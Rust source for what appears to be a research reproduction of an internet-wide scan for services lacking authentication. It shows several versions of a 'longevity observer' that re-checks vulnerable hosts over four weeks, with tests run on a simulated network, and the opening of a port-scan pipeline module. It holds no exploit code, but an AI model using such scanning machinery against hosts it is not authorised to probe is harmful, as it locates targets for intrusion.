///   [`LongevityStudy::counts_at`] reads the gap as offline), or
/// * **re-probed** — classified exactly like the initial pass.
///
/// Version tracking is also incremental: before re-running the full
/// fingerprinter, the host's static assets are hashed and compared with
/// [`HostTimeline::asset_hashes`]; an unchanged host reuses its prior
/// fingerprint. Everything is counted under `observer.rescan.*`
/// (`skipped`, `reprobed`, `refingerprinted`, `reused`), and the
/// returned [`RescanDelta`] reconciles with those counters:
/// `skipped + reprobed == timelines × new rounds`.
///
/// If the prior study already covers `config.window_secs`, no rounds run
/// and the study is returned unchanged (empty delta).
pub async fn observe_incremental<T, F>(
    telemetry: &Telemetry,
    client: &Client<T>,
    prior: LongevityStudy,
    config: &ObserverConfig,
    mut advance_clock: F,
) -> (LongevityStudy, RescanDelta)
where
    T: Transport,
    F: FnMut(i64),
{
    let rounds = telemetry.counter("observer.rounds");
    let status_counters = [
        telemetry.counter("observer.status.vulnerable"),
        telemetry.counter("observer.status.fixed"),
        telemetry.counter("observer.status.offline"),
    ];
    let status_counter = |status: ObservedStatus| match status {
        ObservedStatus::Vulnerable => &status_counters[0],
        ObservedStatus::Fixed => &status_counters[1],
        ObservedStatus::Offline => &status_counters[2],
    };
    let transitions = telemetry.counter("observer.transitions");
    let version_updates = telemetry.counter("observer.version_updates");
    let recheck = telemetry.timer("observer.recheck");
    let rescan_skipped = telemetry.counter("observer.rescan.skipped");
    let rescan_reprobed = telemetry.counter("observer.rescan.reprobed");
    let rescan_refingerprinted = telemetry.counter("observer.rescan.refingerprinted");
    let rescan_reused = telemetry.counter("observer.rescan.reused");

    let fingerprinter = Fingerprinter::with_telemetry(telemetry);
    let mut study = prior;
    let mut delta = RescanDelta::default();

    // Continue the cadence after the last prior observation. A prior
    // study is never empty in practice, but starting a cold one here is
    // well-defined: round 0, then every interval.
    let mut t = match study.times_secs.last() {
        Some(&last) => last + config.interval_secs,
        None => 0,
    };
    while t <= config.window_secs {
        advance_clock(t);
        rounds.incr();
        delta.rounds += 1;
        study.times_secs.push(t);

        let threshold = config.terminal_offline_after;
        let mut reprobed_this_round = 0u64;
        for timeline in &mut study.timelines {
            if timeline.terminally_offline(threshold) {
                rescan_skipped.incr();
                delta.skipped += 1;
                continue;
            }
            rescan_reprobed.incr();
            delta.reprobed += 1;
            reprobed_this_round += 1;

            let ep = timeline.finding.endpoint;
            let status = match client.transport().probe(ep).await {
                ProbeOutcome::Open => {
                    if detect_mav(client, timeline.finding.app, ep, timeline.finding.scheme).await {
                        ObservedStatus::Vulnerable
                    } else {
                        ObservedStatus::Fixed
                    }
                }
                _ => ObservedStatus::Offline,
            };
            status_counter(status).incr();
            if let Some(&prev) = timeline.statuses.last() {
                if prev != status {
                    transitions.incr();
                    delta.transitions.push(StatusTransition {
                        endpoint: ep,
                        at_secs: t,
                        from: prev,
                        to: status,
                    });
                }
            }
            timeline.statuses.push(status);

            // Incremental version tracking: hash the static assets
            // first; an unchanged host keeps its prior fingerprint
            // without re-running voluntary extraction or the
            // knowledge-base identification.
            if !timeline.updated && status != ObservedStatus::Offline {
                if let Some(before) = timeline.finding.version {
                    let hashes = crawler::crawl(
                        client,
                        fingerprinter.knowledge_base(),
                        ep,
                        timeline.finding.scheme,
                    )
                    .await;
                    if !timeline.asset_hashes.is_empty() && hashes == timeline.asset_hashes {
                        rescan_reused.incr();
                        delta.fingerprints_reused += 1;
                    } else {
                        rescan_refingerprinted.incr();
                        delta.refingerprinted += 1;
                        timeline.asset_hashes = hashes;
                        if let Some((now, _)) = fingerprinter
                            .fingerprint(client, timeline.finding.app, ep, timeline.finding.scheme)
                            .await
                        {
                            if now.triple() != before.triple() {
                                timeline.updated = true;
                                version_updates.incr();
                            }
                        }
                    }
                }
            }
        }
        recheck.record(reprobed_this_round);
        t += config.interval_secs;
    }

    (study, delta)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::{Pipeline, PipelineConfig};
    use nokeys_netsim::{SimTime, SimTransport, Universe, UniverseConfig};
    use std::sync::Arc;

    async fn study_with_telemetry(telemetry: &Telemetry) -> LongevityStudy {
        let t = SimTransport::new(Arc::new(Universe::generate(UniverseConfig::tiny(7))));
        let client = nokeys_http::Client::new(t.clone());
        let pipeline =
            Pipeline::new(PipelineConfig::builder(vec!["20.0.0.0/16".parse().unwrap()]).build());
        let report = pipeline.run(&client).await.expect("pipeline failed");
        let vulnerable: Vec<_> = report.vulnerable_findings().cloned().collect();
        assert!(!vulnerable.is_empty());
        // Daily rescans keep the test fast; the repro harness uses the
        // paper's 3-hour cadence.
        let config = ObserverConfig {
            interval_secs: 86_400,
            window_secs: 28 * 86_400,
            terminal_offline_after: 8,
        };
        observe_instrumented(telemetry, &client, &vulnerable, &config, |secs| {
            t.set_time(SimTime(secs))
        })
        .await
    }

    async fn study() -> LongevityStudy {
        study_with_telemetry(&Telemetry::default()).await
    }

    #[tokio::test]
    async fn everything_starts_vulnerable_and_decays() {
        let s = study().await;
        assert_eq!(s.times_secs.len(), 29);
        let start = s.counts_at(0);
        assert_eq!(start.fixed, 0, "nothing fixed at t=0");
        assert_eq!(start.offline, 0, "nothing offline at t=0");
        assert!(start.vulnerable > 0);
        let last = s.times_secs.len() - 1;
        let end = s.counts_at(last);
        assert_eq!(end.total(), start.vulnerable);
        assert!(
            end.vulnerable < start.vulnerable,
            "some hosts disappear or get fixed over four weeks"
        );
        // The paper's headline: more than a third (they found >half)
        // still vulnerable after four weeks.
        assert!(
            end.vulnerable * 3 > start.vulnerable,
            "too much decay: {}/{}",
            end.vulnerable,
            start.vulnerable
        );
    }

    /// Observer counters reconcile with the study they were recorded
    /// alongside.
    #[tokio::test]
    async fn telemetry_reconciles_with_study() {
        let telemetry = Telemetry::new();
        let s = study_with_telemetry(&telemetry).await;
        let snap = telemetry.snapshot();
        assert_eq!(snap.counter("observer.rounds"), s.times_secs.len() as u64);
        let mut expected = StatusCounts::default();
        let mut expected_transitions = 0u64;
        for timeline in &s.timelines {
            for (i, status) in timeline.statuses.iter().enumerate() {
                match status {
                    ObservedStatus::Vulnerable => expected.vulnerable += 1,
                    ObservedStatus::Fixed => expected.fixed += 1,
                    ObservedStatus::Offline => expected.offline += 1,
                }
                if i > 0 && timeline.statuses[i - 1] != *status {
                    expected_transitions += 1;
                }
            }
        }
        assert_eq!(
            snap.counter("observer.status.vulnerable"),
            expected.vulnerable
        );
        assert_eq!(snap.counter("observer.status.fixed"), expected.fixed);
        assert_eq!(snap.counter("observer.status.offline"), expected.offline);
        assert_eq!(snap.counter("observer.transitions"), expected_transitions);
        assert_eq!(snap.counter("observer.version_updates"), s.updated_count());
        assert_eq!(
            snap.timings["observer.recheck"].units,
            s.times_secs.len() as u64 * s.timelines.len() as u64
        );
    }

    #[tokio::test]
    async fn statuses_align_with_times() {
        let s = study().await;
        for t in &s.timelines {
            assert_eq!(t.statuses.len(), s.times_secs.len());
        }
    }

    #[tokio::test]
    async fn insecure_by_default_classification_present() {
        let s = study().await;
        let by_default = s.timelines.iter().filter(|t| t.insecure_by_default).count();
        let modified = s.timelines.len() - by_default;
        // Both groups exist in a calibrated universe (GoCD/Hadoop/... are
        // insecure by default; Consul/K8s/... require modification).
        assert!(by_default > 0, "no insecure-by-default hosts");
        assert!(modified > 0, "no explicitly modified hosts");
    }

    fn toy_timeline(statuses: Vec<ObservedStatus>) -> HostTimeline {
        HostTimeline {
            finding: HostFinding {
                endpoint: Endpoint::new(std::net::Ipv4Addr::new(20, 0, 0, 1), 80),
                scheme: nokeys_http::Scheme::Http,
                app: nokeys_apps::AppId::Docker,
                vulnerable: true,
                version: None,
                fingerprint_method: None,
            },
            insecure_by_default: true,
            statuses,
            updated: false,
            asset_hashes: Vec::new(),
        }
    }

    /// Regression: `counts_at` used to index `statuses[i]` directly and
    /// panicked on ragged timelines (hosts an incremental rescan stopped
    /// probing). Missing observations must read as offline.
    #[test]
    fn counts_at_tolerates_ragged_timelines() {
        use ObservedStatus::*;
        let s = LongevityStudy {
            times_secs: vec![0, 100, 200],
            timelines: vec![
                toy_timeline(vec![Vulnerable, Vulnerable, Fixed]),
                toy_timeline(vec![Vulnerable, Offline]), // ragged
                toy_timeline(vec![Offline]),             // ragged
            ],
        };
        assert_eq!(
            s.counts_at(0),
            StatusCounts {
                vulnerable: 2,
                fixed: 0,
                offline: 1
            }
        );
        assert_eq!(
            s.counts_at(2),
            StatusCounts {
                vulnerable: 0,
                fixed: 1,
                offline: 2
            }
        );
        // Entirely past the recorded data: everything reads offline.
        assert_eq!(s.counts_at(9).offline, 3);
        assert_eq!(s.counts_at(9).total(), 3);
    }

    #[test]
    fn terminal_offline_detection() {
        use ObservedStatus::*;
        let t = toy_timeline(vec![Vulnerable, Offline, Offline]);
        assert!(t.terminally_offline(2));
        assert!(!t.terminally_offline(3), "vulnerable within the window");
        assert!(!t.terminally_offline(4), "fewer observations than the threshold");
        assert!(!t.terminally_offline(0), "0 disables the skip");
        let live = toy_timeline(vec![Offline, Offline, Vulnerable]);
        assert!(!live.terminally_offline(2));
    }

    /// A serialized study (including one predating `asset_hashes`) loads
    /// back as an incremental-rescan checkpoint.
    #[test]
    fn study_round_trips_through_json() {
        use ObservedStatus::*;
        let s = LongevityStudy {
            times_secs: vec![0, 100],
            timelines: vec![toy_timeline(vec![Vulnerable, Fixed])],
        };
        let json = serde_json::to_string(&s).unwrap();
        let back: LongevityStudy = serde_json::from_str(&json).unwrap();
        assert_eq!(back.times_secs, s.times_secs);
        assert_eq!(back.timelines[0].statuses, s.timelines[0].statuses);

        // Older serializations carry no asset_hashes field.
        let mut value: serde_json::Value = serde_json::from_str(&json).unwrap();
        value["timelines"][0]
            .as_object_mut()
            .unwrap()
            .remove("asset_hashes");
        let old: LongevityStudy = serde_json::from_value(value).unwrap();
        assert!(old.timelines[0].asset_hashes.is_empty());
    }

    /// Extending a study re-probes strictly fewer host-rounds than a
    /// from-scratch pass, and the `observer.rescan.*` counters reconcile
    /// with the returned delta.
    #[tokio::test]
    async fn incremental_rescan_reconciles() {
        let t = SimTransport::new(Arc::new(Universe::generate(UniverseConfig::tiny(7))));
        let client = nokeys_http::Client::new(t.clone());
        let pipeline =
            Pipeline::new(PipelineConfig::builder(vec!["20.0.0.0/16".parse().unwrap()]).build());
        let report = pipeline.run(&client).await.expect("pipeline failed");
        let vulnerable: Vec<_> = report.vulnerable_findings().cloned().collect();

        // Initial pass: two weeks at daily cadence.
        let config = ObserverConfig {
            interval_secs: 86_400,
            window_secs: 14 * 86_400,
            terminal_offline_after: 2,
        };
        let prior = observe(&client, &vulnerable, &config, |secs| {
            t.set_time(SimTime(secs))
        })
        .await;
        let prior_rounds = prior.times_secs.len();
        let n_hosts = prior.timelines.len();

        // Incremental extension to four weeks.
        let telemetry = Telemetry::new();
        let extended_config = ObserverConfig {
            window_secs: 28 * 86_400,
            ..config
        };
        let (study, delta) =
            observe_incremental(&telemetry, &client, prior, &extended_config, |secs| {
                t.set_time(SimTime(secs))
            })
            .await;

        assert_eq!(study.times_secs.len(), 29, "extended to the full window");
        assert_eq!(delta.rounds as usize, 29 - prior_rounds);
        // The skip actually engaged, and everything is accounted for.
        assert!(delta.skipped > 0, "no terminally-offline host was skipped");
        assert!(delta.reprobed < delta.rounds * n_hosts as u64);
        assert_eq!(delta.skipped + delta.reprobed, delta.rounds * n_hosts as u64);
        // Counters mirror the delta.
        let snap = telemetry.snapshot();
        assert_eq!(snap.counter("observer.rescan.skipped"), delta.skipped);
        assert_eq!(snap.counter("observer.rescan.reprobed"), delta.reprobed);
        assert_eq!(
            snap.counter("observer.rescan.refingerprinted"),
            delta.refingerprinted
        );
        assert_eq!(
            snap.counter("observer.rescan.reused"),
            delta.fingerprints_reused
        );
        assert_eq!(snap.counter("observer.rounds"), delta.rounds);
        // Unchanged hosts reused their fingerprints instead of
        // re-running the full identification.
        assert!(delta.fingerprints_reused > 0);
        // Skipped hosts went ragged; counts_at still covers every host.
        assert!(study
            .timelines
            .iter()
            .any(|tl| tl.statuses.len() < study.times_secs.len()));
        let last = study.times_secs.len() - 1;
        assert_eq!(study.counts_at(last).total(), n_hosts as u64);
        // Transitions recorded in the delta match the counter.
        assert_eq!(
            snap.counter("observer.transitions"),
            delta.transitions.len() as u64
        );
    }
}
