//! Longevity observer (RQ3 / Figure 2).
//!
//! "We repeated our scan on the 4,221 vulnerable hosts every three hours
//! over a time span of four weeks." For each vulnerable host the observer
//! re-runs the detection plugin and classifies the host as still
//! *vulnerable*, *fixed* (reachable, plugin negative) or *offline*
//! (unreachable). It also re-fingerprints to spot version updates.
//!
//! The observer is time-source agnostic: the caller supplies a callback
//! that advances the (virtual or real) clock to a given offset in seconds
//! before each rescan round.

use crate::fingerprint::Fingerprinter;
use crate::plugin::detect_mav;
use crate::report::HostFinding;
use crate::telemetry::Telemetry;
use nokeys_http::{Client, ProbeOutcome, Transport};
use serde::Serialize;

/// Status of one host at one observation point.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum ObservedStatus {
    Vulnerable,
    Fixed,
    Offline,
}

impl ObservedStatus {
    /// Lowercase label, used for telemetry counter names.
    pub fn label(self) -> &'static str {
        match self {
            ObservedStatus::Vulnerable => "vulnerable",
            ObservedStatus::Fixed => "fixed",
            ObservedStatus::Offline => "offline",
        }
    }
}

/// Host counts per status at one observation point.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
pub struct StatusCounts {
    /// Hosts still confirmed vulnerable.
    pub vulnerable: u64,
    /// Hosts reachable but no longer confirmed (patched or secured).
    pub fixed: u64,
    /// Hosts that did not respond this round.
    pub offline: u64,
}

impl StatusCounts {
    /// All observed hosts (the three statuses are exhaustive).
    pub fn total(&self) -> u64 {
        self.vulnerable + self.fixed + self.offline
    }
}

/// Timeline of one host across all observation points.
#[derive(Debug, Clone, Serialize)]
pub struct HostTimeline {
    pub finding: HostFinding,
    /// Whether the deployment is insecure *by default* (versus explicitly
    /// modified) — Figure 2 groups by this.
    pub insecure_by_default: bool,
    /// One status per observation time.
    pub statuses: Vec<ObservedStatus>,
    /// Whether the fingerprinted version changed during observation.
    pub updated: bool,
}

/// Full longevity study output.
#[derive(Debug, Serialize)]
pub struct LongevityStudy {
    /// Observation offsets in seconds from the study start.
    pub times_secs: Vec<i64>,
    pub timelines: Vec<HostTimeline>,
}

impl LongevityStudy {
    /// Count hosts in each status at observation index `i`.
    pub fn counts_at(&self, i: usize) -> StatusCounts {
        let mut counts = StatusCounts::default();
        for t in &self.timelines {
            match t.statuses[i] {
                ObservedStatus::Vulnerable => counts.vulnerable += 1,
                ObservedStatus::Fixed => counts.fixed += 1,
                ObservedStatus::Offline => counts.offline += 1,
            }
        }
        counts
    }

    /// Number of hosts whose version was updated during the study.
    pub fn updated_count(&self) -> u64 {
        self.timelines.iter().filter(|t| t.updated).count() as u64
    }
}

/// Observer configuration.
#[derive(Debug, Clone)]
pub struct ObserverConfig {
    /// Seconds between rescans (paper: 3 hours).
    pub interval_secs: i64,
    /// Total observation window (paper: 28 days).
    pub window_secs: i64,
}

impl Default for ObserverConfig {
    fn default() -> Self {
        ObserverConfig {
            interval_secs: 3 * 3600,
            window_secs: 28 * 86_400,
        }
    }
}

/// Run the longevity observation.
///
/// `advance_clock(secs)` is called before each round with the offset from
/// the study start; with the simulated transport this maps to
/// `SimTransport::set_time`.
pub async fn observe<T, F>(
    client: &Client<T>,
    findings: &[HostFinding],
    config: &ObserverConfig,
    advance_clock: F,
) -> LongevityStudy
where
    T: Transport,
    F: FnMut(i64),
{
    observe_instrumented(
        &Telemetry::default(),
        client,
        findings,
        config,
        advance_clock,
    )
    .await
}

/// [`observe`] with telemetry: per-round status counts
/// (`observer.status.<status>`), status transitions between consecutive
/// rounds (`observer.transitions`), version updates
/// (`observer.version_updates`), rounds (`observer.rounds`) and a
/// virtual-clock timer charging one unit per host re-check
/// (`observer.recheck`).
pub async fn observe_instrumented<T, F>(
    telemetry: &Telemetry,
    client: &Client<T>,
    findings: &[HostFinding],
    config: &ObserverConfig,
    mut advance_clock: F,
) -> LongevityStudy
where
    T: Transport,
    F: FnMut(i64),
{
    let rounds = telemetry.counter("observer.rounds");
    let status_counters = [
        telemetry.counter("observer.status.vulnerable"),
        telemetry.counter("observer.status.fixed"),
        telemetry.counter("observer.status.offline"),
    ];
    let status_counter = |status: ObservedStatus| match status {
        ObservedStatus::Vulnerable => &status_counters[0],
        ObservedStatus::Fixed => &status_counters[1],
        ObservedStatus::Offline => &status_counters[2],
    };
    let transitions = telemetry.counter("observer.transitions");
    let version_updates = telemetry.counter("observer.version_updates");
    let recheck = telemetry.timer("observer.recheck");

    let fingerprinter = Fingerprinter::with_telemetry(telemetry);
    let times: Vec<i64> = (0..=config.window_secs / config.interval_secs)
        .map(|i| i * config.interval_secs)
        .collect();

    let mut timelines: Vec<HostTimeline> = findings
        .iter()
        .map(|f| HostTimeline {
            finding: f.clone(),
            insecure_by_default: f
                .version
                .map(|v| nokeys_apps::version::insecure_by_default(f.app, &v))
                .unwrap_or(false),
            statuses: Vec::with_capacity(times.len()),
            updated: false,
        })
        .collect();

    for &t in &times {
        advance_clock(t);
        rounds.incr();
        recheck.record(timelines.len() as u64);
        for timeline in &mut timelines {
            // Once offline or fixed, the paper keeps tracking: a fixed
            // host can still disappear, an offline host could return.
            // Re-check every round.
            let ep = timeline.finding.endpoint;
            let status = match client.transport().probe(ep).await {
                ProbeOutcome::Open => {
                    if detect_mav(client, timeline.finding.app, ep, timeline.finding.scheme).await {
                        ObservedStatus::Vulnerable
                    } else {
                        ObservedStatus::Fixed
                    }
                }
                _ => ObservedStatus::Offline,
            };
            status_counter(status).incr();
            if timeline.statuses.last().is_some_and(|&prev| prev != status) {
                transitions.incr();
            }
            timeline.statuses.push(status);

            // Version-update tracking (2.4% of hosts in the paper).
            if !timeline.updated && status != ObservedStatus::Offline {
                if let Some(before) = timeline.finding.version {
                    if let Some((now, _)) = fingerprinter
                        .fingerprint(client, timeline.finding.app, ep, timeline.finding.scheme)
                        .await
                    {
                        if now.triple() != before.triple() {
                            timeline.updated = true;
                            version_updates.incr();
                        }
                    }
                }
            }
        }
    }

    LongevityStudy {
        times_secs: times,
        timelines,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::{Pipeline, PipelineConfig};
    use nokeys_netsim::{SimTime, SimTransport, Universe, UniverseConfig};
    use std::sync::Arc;

    async fn study_with_telemetry(telemetry: &Telemetry) -> LongevityStudy {
        let t = SimTransport::new(Arc::new(Universe::generate(UniverseConfig::tiny(7))));
        let client = nokeys_http::Client::new(t.clone());
        let pipeline =
            Pipeline::new(PipelineConfig::builder(vec!["20.0.0.0/16".parse().unwrap()]).build());
        let report = pipeline.run(&client).await.expect("pipeline failed");
        let vulnerable: Vec<_> = report.vulnerable_findings().cloned().collect();
        assert!(!vulnerable.is_empty());
        // Daily rescans keep the test fast; the repro harness uses the
        // paper's 3-hour cadence.
        let config = ObserverConfig {
            interval_secs: 86_400,
            window_secs: 28 * 86_400,
        };
        observe_instrumented(telemetry, &client, &vulnerable, &config, |secs| {
            t.set_time(SimTime(secs))
        })
        .await
    }

    async fn study() -> LongevityStudy {
        study_with_telemetry(&Telemetry::default()).await
    }

    #[tokio::test]
    async fn everything_starts_vulnerable_and_decays() {
        let s = study().await;
        assert_eq!(s.times_secs.len(), 29);
        let start = s.counts_at(0);
        assert_eq!(start.fixed, 0, "nothing fixed at t=0");
        assert_eq!(start.offline, 0, "nothing offline at t=0");
        assert!(start.vulnerable > 0);
        let last = s.times_secs.len() - 1;
        let end = s.counts_at(last);
        assert_eq!(end.total(), start.vulnerable);
        assert!(
            end.vulnerable < start.vulnerable,
            "some hosts disappear or get fixed over four weeks"
        );
        // The paper's headline: more than a third (they found >half)
        // still vulnerable after four weeks.
        assert!(
            end.vulnerable * 3 > start.vulnerable,
            "too much decay: {}/{}",
            end.vulnerable,
            start.vulnerable
        );
    }

    /// Observer counters reconcile with the study they were recorded
    /// alongside.
    #[tokio::test]
    async fn telemetry_reconciles_with_study() {
        let telemetry = Telemetry::new();
        let s = study_with_telemetry(&telemetry).await;
        let snap = telemetry.snapshot();
        assert_eq!(snap.counter("observer.rounds"), s.times_secs.len() as u64);
        let mut expected = StatusCounts::default();
        let mut expected_transitions = 0u64;
        for timeline in &s.timelines {
            for (i, status) in timeline.statuses.iter().enumerate() {
                match status {
                    ObservedStatus::Vulnerable => expected.vulnerable += 1,
                    ObservedStatus::Fixed => expected.fixed += 1,
                    ObservedStatus::Offline => expected.offline += 1,
                }
                if i > 0 && timeline.statuses[i - 1] != *status {
                    expected_transitions += 1;
                }
            }
        }
        assert_eq!(
            snap.counter("observer.status.vulnerable"),
            expected.vulnerable
        );
        assert_eq!(snap.counter("observer.status.fixed"), expected.fixed);
        assert_eq!(snap.counter("observer.status.offline"), expected.offline);
        assert_eq!(snap.counter("observer.transitions"), expected_transitions);
        assert_eq!(snap.counter("observer.version_updates"), s.updated_count());
        assert_eq!(
            snap.timings["observer.recheck"].units,
            s.times_secs.len() as u64 * s.timelines.len() as u64
        );
    }

    #[tokio::test]
    async fn statuses_align_with_times() {
        let s = study().await;
        for t in &s.timelines {
            assert_eq!(t.statuses.len(), s.times_secs.len());
        }
    }

    #[tokio::test]
    async fn insecure_by_default_classification_present() {
        let s = study().await;
        let by_default = s.timelines.iter().filter(|t| t.insecure_by_default).count();
        let modified = s.timelines.len() - by_default;
        // Both groups exist in a calibrated universe (GoCD/Hadoop/... are
        // insecure by default; Consul/K8s/... require modification).
        assert!(by_default > 0, "no insecure-by-default hosts");
        assert!(modified > 0, "no explicitly modified hosts");
    }
}
