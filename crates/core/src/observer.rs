//! Longevity observer (RQ3 / Figure 2).
//!
//! "We repeated our scan on the 4,221 vulnerable hosts every three hours
//! over a time span of four weeks." For each vulnerable host the observer
//! re-runs the detection plugin and classifies the host as still
//! *vulnerable*, *fixed* (reachable, plugin negative) or *offline*
//! (unreachable). It also re-fingerprints to spot version updates.
//!
//! The observer is time-source agnostic: the caller supplies a callback
//! that advances the (virtual or real) clock to a given offset in seconds
//! before each rescan round.

use crate::fingerprint::Fingerprinter;
use crate::plugin::detect_mav;
use crate::report::HostFinding;
use nokeys_http::{Client, ProbeOutcome, Transport};
use serde::Serialize;

/// Status of one host at one observation point.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum ObservedStatus {
    Vulnerable,
    Fixed,
    Offline,
}

/// Timeline of one host across all observation points.
#[derive(Debug, Clone, Serialize)]
pub struct HostTimeline {
    pub finding: HostFinding,
    /// Whether the deployment is insecure *by default* (versus explicitly
    /// modified) — Figure 2 groups by this.
    pub insecure_by_default: bool,
    /// One status per observation time.
    pub statuses: Vec<ObservedStatus>,
    /// Whether the fingerprinted version changed during observation.
    pub updated: bool,
}

/// Full longevity study output.
#[derive(Debug, Serialize)]
pub struct LongevityStudy {
    /// Observation offsets in seconds from the study start.
    pub times_secs: Vec<i64>,
    pub timelines: Vec<HostTimeline>,
}

impl LongevityStudy {
    /// Count hosts in each status at observation index `i`.
    pub fn counts_at(&self, i: usize) -> (u64, u64, u64) {
        let mut v = 0;
        let mut f = 0;
        let mut o = 0;
        for t in &self.timelines {
            match t.statuses[i] {
                ObservedStatus::Vulnerable => v += 1,
                ObservedStatus::Fixed => f += 1,
                ObservedStatus::Offline => o += 1,
            }
        }
        (v, f, o)
    }

    /// Number of hosts whose version was updated during the study.
    pub fn updated_count(&self) -> u64 {
        self.timelines.iter().filter(|t| t.updated).count() as u64
    }
}

/// Observer configuration.
#[derive(Debug, Clone)]
pub struct ObserverConfig {
    /// Seconds between rescans (paper: 3 hours).
    pub interval_secs: i64,
    /// Total observation window (paper: 28 days).
    pub window_secs: i64,
}

impl Default for ObserverConfig {
    fn default() -> Self {
        ObserverConfig {
            interval_secs: 3 * 3600,
            window_secs: 28 * 86_400,
        }
    }
}

/// Run the longevity observation.
///
/// `advance_clock(secs)` is called before each round with the offset from
/// the study start; with the simulated transport this maps to
/// `SimTransport::set_time`.
pub async fn observe<T, F>(
    client: &Client<T>,
    findings: &[HostFinding],
    config: &ObserverConfig,
    mut advance_clock: F,
) -> LongevityStudy
where
    T: Transport,
    F: FnMut(i64),
{
    let fingerprinter = Fingerprinter::new();
    let times: Vec<i64> = (0..=config.window_secs / config.interval_secs)
        .map(|i| i * config.interval_secs)
        .collect();

    let mut timelines: Vec<HostTimeline> = findings
        .iter()
        .map(|f| HostTimeline {
            finding: f.clone(),
            insecure_by_default: f
                .version
                .map(|v| nokeys_apps::version::insecure_by_default(f.app, &v))
                .unwrap_or(false),
            statuses: Vec::with_capacity(times.len()),
            updated: false,
        })
        .collect();

    for &t in &times {
        advance_clock(t);
        for timeline in &mut timelines {
            // Once offline or fixed, the paper keeps tracking: a fixed
            // host can still disappear, an offline host could return.
            // Re-check every round.
            let ep = timeline.finding.endpoint;
            let status = match client.transport().probe(ep).await {
                ProbeOutcome::Open => {
                    if detect_mav(client, timeline.finding.app, ep, timeline.finding.scheme).await {
                        ObservedStatus::Vulnerable
                    } else {
                        ObservedStatus::Fixed
                    }
                }
                _ => ObservedStatus::Offline,
            };
            timeline.statuses.push(status);

            // Version-update tracking (2.4% of hosts in the paper).
            if !timeline.updated && status != ObservedStatus::Offline {
                if let Some(before) = timeline.finding.version {
                    if let Some((now, _)) = fingerprinter
                        .fingerprint(client, timeline.finding.app, ep, timeline.finding.scheme)
                        .await
                    {
                        if now.triple() != before.triple() {
                            timeline.updated = true;
                        }
                    }
                }
            }
        }
    }

    LongevityStudy {
        times_secs: times,
        timelines,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::{Pipeline, PipelineConfig};
    use nokeys_netsim::{SimTime, SimTransport, Universe, UniverseConfig};
    use std::sync::Arc;

    async fn study() -> LongevityStudy {
        let t = SimTransport::new(Arc::new(Universe::generate(UniverseConfig::tiny(7))));
        let client = nokeys_http::Client::new(t.clone());
        let pipeline = Pipeline::new(PipelineConfig::new(vec!["20.0.0.0/16".parse().unwrap()]));
        let report = pipeline.run(&client).await;
        let vulnerable: Vec<_> = report.vulnerable_findings().cloned().collect();
        assert!(!vulnerable.is_empty());
        // Daily rescans keep the test fast; the repro harness uses the
        // paper's 3-hour cadence.
        let config = ObserverConfig {
            interval_secs: 86_400,
            window_secs: 28 * 86_400,
        };
        observe(&client, &vulnerable, &config, |secs| {
            t.set_time(SimTime(secs))
        })
        .await
    }

    #[tokio::test]
    async fn everything_starts_vulnerable_and_decays() {
        let s = study().await;
        assert_eq!(s.times_secs.len(), 29);
        let (v0, f0, o0) = s.counts_at(0);
        assert_eq!(f0, 0, "nothing fixed at t=0");
        assert_eq!(o0, 0, "nothing offline at t=0");
        assert!(v0 > 0);
        let last = s.times_secs.len() - 1;
        let (v_end, f_end, o_end) = s.counts_at(last);
        assert_eq!(v_end + f_end + o_end, v0);
        assert!(
            v_end < v0,
            "some hosts disappear or get fixed over four weeks"
        );
        // The paper's headline: more than a third (they found >half)
        // still vulnerable after four weeks.
        assert!(v_end * 3 > v0, "too much decay: {v_end}/{v0}");
    }

    #[tokio::test]
    async fn statuses_align_with_times() {
        let s = study().await;
        for t in &s.timelines {
            assert_eq!(t.statuses.len(), s.times_secs.len());
        }
    }

    #[tokio::test]
    async fn insecure_by_default_classification_present() {
        let s = study().await;
        let by_default = s.timelines.iter().filter(|t| t.insecure_by_default).count();
        let modified = s.timelines.len() - by_default;
        // Both groups exist in a calibrated universe (GoCD/Hadoop/... are
        // insecure by default; Consul/K8s/... require modification).
        assert!(by_default > 0, "no insecure-by-default hosts");
        assert!(modified > 0, "no explicitly modified hosts");
    }
}
