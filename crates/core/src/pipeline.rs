//! The full three-stage pipeline.
//!
//! Orchestrates stage I (port scan), artifact exclusion ("3.0M hosts that
//! appeared to always have all ports open ... we excluded them"), stage
//! II (prefilter), stage III (MAV plugins) and version fingerprinting
//! into a single [`ScanReport`].

use crate::fingerprint::Fingerprinter;
use crate::plugin::detect_mav;
use crate::portscan::{Cidr, PortScanConfig, PortScanResult, PortScanner};
use crate::prefilter::{Prefilter, PrefilterHit};
use crate::report::{HostFinding, ScanReport};
use nokeys_apps::AppId;
use nokeys_http::{Client, Transport};
use std::collections::BTreeMap;
use std::net::Ipv4Addr;

/// Pipeline configuration.
#[derive(Debug, Clone)]
pub struct PipelineConfig {
    /// Stage-I configuration.
    pub portscan: PortScanConfig,
    /// /24 blocks per batch ("we always selected and scanned a fraction
    /// of all hosts with our full pipeline before we continued").
    pub blocks_per_batch: usize,
    /// Hosts with at least this many open scan ports are treated as
    /// all-ports-open artifacts and excluded.
    pub tarpit_port_threshold: usize,
    /// Run the version fingerprinter on identified hosts.
    pub fingerprint: bool,
    /// Run stage III plugins (disabling this is only useful for the
    /// prefilter ablation bench).
    pub verify: bool,
}

impl PipelineConfig {
    pub fn new(targets: Vec<Cidr>) -> Self {
        let portscan = PortScanConfig::new(targets);
        let tarpit_port_threshold = portscan.ports.len();
        PipelineConfig {
            portscan,
            blocks_per_batch: 64,
            tarpit_port_threshold,
            fingerprint: true,
            verify: true,
        }
    }
}

/// The pipeline.
pub struct Pipeline {
    config: PipelineConfig,
    scanner: PortScanner,
    prefilter: Prefilter,
    fingerprinter: Fingerprinter,
}

impl Pipeline {
    pub fn new(config: PipelineConfig) -> Self {
        let scanner = PortScanner::new(config.portscan.clone());
        Pipeline {
            config,
            scanner,
            prefilter: Prefilter::new(),
            fingerprinter: Fingerprinter::new(),
        }
    }

    /// Run the full pipeline over the configured target space.
    pub async fn run<T: Transport>(&self, client: &Client<T>) -> ScanReport {
        let mut report = ScanReport::default();
        // Stage I, batched: collect per-batch endpoint sets and process
        // each with stages II/III before the sweep continues.
